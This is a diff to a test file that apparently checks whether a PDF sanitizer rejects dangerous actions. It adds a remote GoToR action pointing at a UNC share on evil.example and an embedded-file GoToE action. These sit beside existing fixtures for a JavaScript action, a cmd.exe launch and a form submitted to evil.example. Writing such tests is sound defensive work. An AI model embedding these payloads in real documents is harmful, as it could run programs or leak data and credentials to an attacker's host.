@@ -217,6 +217,8 @@ describe('a drawing', () => {
         ['a packed script', packedPdf('<< /S /JavaScript /JS (app.alert(1)) >>')],
         ['a program', pdf('<< /S /Launch /F (cmd.exe) >>')],
         ['a form that sends itself', packedPdf('<< /S /SubmitForm /F (https://evil.example) >>')],
+        ['a way to a file elsewhere', pdf('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) >>')],
+        ['a way to a file within', pdf('<< /S /GoToE /T << /R /C >> >>')],
         ['a file within', pdf('<< /Type /Filespec /EF << /F 3 0 R >> /Names << /EmbeddedFiles 4 0 R >> >>')],
       ] as const
     ).map(
